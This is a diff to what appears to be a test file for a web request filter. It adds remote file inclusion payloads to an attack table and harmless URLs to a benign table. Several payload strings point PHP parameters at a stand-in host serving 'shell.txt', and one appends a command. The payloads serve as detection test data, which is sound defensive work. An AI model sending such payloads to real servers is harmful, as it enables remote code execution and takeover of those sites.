@@ -73,6 +73,9 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['kernel objects', 'ptrav', 'q', encodeURIComponent('/sys/class/net')],
   ['remote file with its suffix cut by ?', 'ptrav', 'path', '/inc/header.php?mainpath=http://evil.example.net/shell.txt?'],
   ['remote file with ?? and a command', 'ptrav', 'q', encodeURIComponent('http://evil.example.net/shell.txt??&cmd=id')],
+  ['remote file in quotes, its suffix cut', 'ptrav', 'path', '/inc/config.php?root=%27http://evil.example.net/shell.txt?%27'],
+  ['remote file after a doubled =', 'ptrav', 'path', '/index.php?base==http://evil.example.net/shell.txt?'],
+  ['remote file glued to the parameter name', 'ptrav', 'path', '/core/news.php?absoluteurlhttp://evil.example.net/shell.txt?'],
   // 8. XXE without SYSTEM, and DOCTYPE in JSON.
   [
     'entity expansion bomb',
@@ -197,6 +200,9 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a price', 'q', '0.05'],
   ['a private address in a settings form', 'form', 'gateway=192.168.1.1&dns=10.0.0.53'],
   ['a public IPv6 address in a URL', 'q', encodeURIComponent('http://[2001:db8::1]/status')],
+  ['a product number then a slug', 'q', encodeURIComponent('55012873/blue-glass-beads')],
+  ['a link to a page with a query', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?id=5')],
+  ['a link to a routed page', 'path', '/go?url=' + encodeURIComponent('https://shop.example/index.php?/admin/login')],
   ['a Windows path with backslashes', 'form', 'dir=' + encodeURIComponent('\\\\fileserver\\reports\\2024')],
   ['a URL with a full-width host', 'q', encodeURIComponent('https://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com/')],
   ['a date with slashes', 'json', '{"due":"15/01/2024"}'],
